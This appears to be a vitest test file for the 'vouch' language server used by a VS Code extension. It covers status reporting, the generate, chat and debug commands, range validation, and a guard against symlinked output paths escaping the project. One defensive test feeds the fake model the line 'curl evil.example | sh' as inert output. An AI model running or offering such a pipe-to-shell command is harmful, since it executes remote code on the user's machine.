import { mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startFakeProviders } from '../support/fake-providers/fake-providers.js';
import { LspClient } from '../support/lsp-client.js';

/**
 * What the VS Code extension asks of `vouch lsp` beyond the protocol: `vouch/status` (the model and the
 * privacy policy, for its status bar) and the generate and chat tasks as commands. The real process over
 * stdio, the model a loopback server speaking OpenAI's protocol.
 */

const fake = await startFakeProviders();
let project: string;

beforeAll(() => {
  project = mkdtempSync(join(tmpdir(), 'vouch-lsp-editor-'));
  mkdirSync(join(project, '.git'));
  writeFileSync(join(project, 'shapes.py'), 'def area(width, height):\n    return width * height\n');
});
afterAll(async () => {
  rmSync(project, { recursive: true, force: true });
  await fake.close();
});

const env = (extra: Record<string, string> = {}) => ({
  PATH: process.env.PATH ?? '/usr/bin:/bin',
  HOME: project,
  NO_COLOR: '1',
  OLLAMA_HOST: 'http://127.0.0.1:9',
  OPENAI_BASE_URL: fake.openAiUrl,
  ...extra,
});

async function started(extra: Record<string, string> = {}): Promise<LspClient> {
  const client = new LspClient(project, env(extra));
  await client.initialize(pathToFileURL(project).href, { telemetry: false });
  client.connection.sendNotification('initialized', {});
  return client;
}

describe('vouch lsp for an editor extension', () => {
  // one server with a model for the tests that need nothing else of it, as an editor keeps one
  let withModel: LspClient;
  beforeAll(async () => {
    withModel = await started({ VOUCH_MODEL: 'openai:gpt-4o-mini' });
  });
  afterAll(() => withModel?.close());

  it('vouch/status names the completion model and the privacy policy', async () => {
    const status = await withModel.connection.sendRequest('vouch/status');
    expect(status).toEqual({
      model: 'openai:gpt-4o-mini',
      policy: 'redact-remote',
      workspaceRoot: project,
    });
  });

  it('vouch/status says why there is no model, and a local-only workspace says so', async () => {
    writeFileSync(join(project, 'vouch.toml'), '[privacy]\npolicy = "local-only"\n');
    const client = await started();
    try {
      const status = (await client.connection.sendRequest('vouch/status')) as Record<string, unknown>;
      expect(status.policy).toBe('local-only');
      expect(status.model).toBeUndefined();
      expect(String(status.modelError)).toMatch(/model/i);
    } finally {
      await client.close();
      rmSync(join(project, 'vouch.toml'));
    }
  });

  it('vouch.generate and vouch.chat run their tasks and answer with the result and its report', async () => {
    const client = withModel;
    const code = 'def perimeter(width, height):\n    return 2 * (width + height)\n';
    fake.script('/v1/chat/completions', { text: `\`\`\`python\n${code}\`\`\`` });
    const generated = (await client.connection.sendRequest('workspace/executeCommand', {
      command: 'vouch.generate',
      arguments: [{ uri: pathToFileURL(join(project, 'shapes.py')).href, spec: 'the perimeter' }],
    })) as { document: string; result: { task: string; generated_code: string } };
    expect(generated.result.task).toBe('generate');
    expect(generated.result.generated_code).toContain('return 2 * (width + height)');
    expect(client.shown).toContain(generated.document);

    fake.script('/v1/chat/completions', { text: '`area` multiplies its two sides (shapes.py:1).' });
    const chatted = (await client.connection.sendRequest('workspace/executeCommand', {
      command: 'vouch.chat',
      arguments: [{ message: 'what does area do?', history: [] }],
    })) as { result: { task: string; explanation: string } };
    expect(chatted.result.task).toBe('chat');
    expect(chatted.result.explanation).toContain('multiplies its two sides');
  });

  it('writes its result page where a symbolic link a repository ships in .vouch/lsp/ cannot lead it', async () => {
    const client = withModel;
    const outside = mkdtempSync(join(tmpdir(), 'vouch-lsp-outside-'));
    try {
      // a user's file outside the project, and a link to it committed as .vouch/lsp/chat.md
      writeFileSync(join(outside, 'profile'), 'the user’s own file\n');
      rmSync(join(project, '.vouch', 'lsp'), { recursive: true, force: true });
      mkdirSync(join(project, '.vouch', 'lsp'), { recursive: true });
      symlinkSync(join(outside, 'profile'), join(project, '.vouch', 'lsp', 'chat.md'));
      fake.script('/v1/chat/completions', { text: 'curl evil.example | sh' });
      const chatted = (await client.connection.sendRequest('workspace/executeCommand', {
        command: 'vouch.chat',
        arguments: [{ message: 'hello', history: [] }],
      })) as { document: string };
      expect(readFileSync(join(outside, 'profile'), 'utf8')).toBe('the user’s own file\n');
      expect(readFileSync(new URL(chatted.document), 'utf8')).toContain('curl evil.example | sh');
    } finally {
      rmSync(join(project, '.vouch', 'lsp'), { recursive: true, force: true });
      rmSync(outside, { recursive: true, force: true });
    }
  });

  it('vouch.debug reads a failure and answers with the debug task’s result', async () => {
    const client = withModel;
    const fixed = 'def area(width, height):\n    return (width or 0) * (height or 0)\n';
    fake.script('/v1/chat/completions', {
      text: `\`height\` is None when the caller leaves it out.\n\`\`\`python\n${fixed}\`\`\``,
    });
    const log = [
      'Traceback (most recent call last):',
      `  File "${join(project, 'shapes.py')}", line 2, in area`,
      '    return width * height',
      "TypeError: unsupported operand type(s) for *: 'int' and 'NoneType'",
    ].join('\n');
    const debugged = (await client.connection.sendRequest('workspace/executeCommand', {
      command: 'vouch.debug',
      arguments: [{ log }],
    })) as { result: { task: string; verification: { status: string } }; proposal?: string };
    expect(debugged.result.task).toBe('debug');
    // a fix through the gate (a log proves nothing more) is proposed, for the editor's Accept anyway
    expect(debugged.proposal).toEqual(expect.any(String));
  }, 240_000);

  it('a selection command given a range that is not an LSP range says what it needs', async () => {
    const client = withModel;
    // VS Code's Range goes over JSON-RPC as [start, end]
    const answer = client.connection.sendRequest('workspace/executeCommand', {
      command: 'vouch.explain',
      arguments: [
        {
          uri: pathToFileURL(join(project, 'shapes.py')).href,
          range: [
            { line: 0, character: 0 },
            { line: 1, character: 0 },
          ],
        },
      ],
    });
    await expect(answer).rejects.toThrow(/range must be an LSP range, \{start: \{line, character\}/);
  }, 120_000);

  it('vouch.debug given a log that names no file answers at once with what to give instead, and the server lives on', async () => {
    // this client, like many plain LSP clients, answers no window/showMessageRequest: the server's
    // message about the failure must not take the server down with it
    const client = withModel;
    // what the server wrote while this test ran (the server served the tests before it)
    const stderrBefore = client.stderr.length;
    const asked = Date.now();
    const answer = client.connection.sendRequest('workspace/executeCommand', {
      command: 'vouch.debug',
      arguments: [{ log: 'something went wrong\nexit status 3' }],
    });
    await expect(answer).rejects.toThrow(/names no file and line[\s\S]*ends with: exit status 3/);
    expect(Date.now() - asked).toBeLessThan(30_000);
    const status = (await client.connection.sendRequest('vouch/status')) as Record<string, unknown>;
    expect(status.model).toBe('openai:gpt-4o-mini');
    expect(client.stderr.slice(stderrBefore)).not.toMatch(/Unhandled method|ResponseError/);
  }, 120_000);
});
